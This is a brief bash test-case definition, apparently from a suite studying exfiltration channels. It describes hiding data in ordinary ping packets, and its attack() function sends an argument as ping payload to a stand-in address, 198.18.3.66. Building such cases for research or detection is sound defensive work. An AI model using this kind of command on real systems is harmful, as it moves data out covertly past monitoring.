# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Data in pings, from an ordinary ping socket'
origin='RESEARCH §2.6'
reason='protocol'
forms='output forward run'
attack() { tool send.py ping 198.18.3.66 "$1"; }
